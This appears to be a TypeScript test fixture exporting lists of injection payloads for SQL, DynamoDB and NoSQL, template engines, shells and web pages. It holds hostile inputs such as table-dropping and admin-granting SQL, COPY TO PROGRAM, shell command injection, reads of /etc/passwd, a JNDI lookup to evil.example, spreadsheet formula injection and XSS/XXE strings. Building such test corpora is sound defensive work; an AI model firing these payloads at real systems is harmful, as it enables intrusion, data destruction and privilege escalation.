// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are aimed at those who take them for templates.

/** One payload per line, with backslashes kept. */
export const lines = (block: TemplateStringsArray): string[] =>
  String.raw(block)
    .split('\n')
    .filter((line) => line !== '');

const sql = lines`
'
''
"
';
' --
' #
'/*
\'
%27
'||'
' OR '1'='1
' OR 1=1--
') OR ('1'='1
'; DROP TABLE orders.orders; --
'; delete from auth.users where 'a'='a
x'; update auth.users set roles='{admin}'; --
'; COPY users TO PROGRAM 'id'; --
' UNION SELECT NULL,NULL--
1; SELECT pg_sleep(30)
'||pg_sleep(30)--
' AND 1=CAST(version() AS int)--
$1
$1::uuid
:name
?
??
E'\\x41'
$$;$$
U&'\0041'
NULL
DEFAULT
current_user
(select 1)`;

const documents = lines`
{"$gt":""}
{"$ne":null}
{"S":"x"}
{"N":"1"}
#name
:value
#n = :v
attribute_exists(productId)
size(:v)
SET #n = :v
REMOVE price
ADD available :v
a.b
a[0]
available >= :q OR :q = :q
SELECT * FROM products
[$ne]
||1==1
__proto__
constructor
prototype
constructor.prototype.x
__proto__[x]
toString
hasOwnProperty
then
{"__proto__":{"x":1}}`;

const templates = lines`
{{7*7}}
#{7*7}
<%= 7*7 %>
{7*7}
*{7*7}
@(7*7)
{{constructor.constructor("return 1")()}}
{{#with "s"}}{{/with}}
{% raw %}
[[7*7]]
~{x}
$(7*7)
{{''.__class__}}
<!--#exec cmd="id"-->`.concat('${7*7}', '${{7*7}}', '${jndi:ldap://evil.example/a}', '${process.env}', '`${1}`');

const shell = lines`
; id
| id
|| id
& id
&& id
$(id)
$IFS
> /tmp/x
< /etc/passwd
; sleep 30
'; id; '
$(sleep 30)
-rf
--help
*
~
!!
%PATH%
@SUM(1+1)*cmd|" /C calc"!A0
=cmd|"/C calc"!A0
+1+1
=1+1`.concat('`id`', '\nid\n', '${HOME}');

const pages = lines`
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
'-alert(1)-'
</title><script>
<svg/onload=alert(1)>
<iframe src=//evil.example>
&lt;script&gt;
&#x3c;script&#x3e;
<a href="javascript:alert(1)">
<style>*{}</style>
<![CDATA[<b>]]>
]]>
<?xml version="1.0"?>
\u003cscript\u003e
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;
<x:include href="/etc/passwd"/>
)(uid=*))(|(uid=*
*)(objectClass=*`;

/** Input that SQL, DynamoDB, templates, shells or pages might execute. */
export const statements: readonly string[] = [sql, documents, templates, shell, pages].flat();
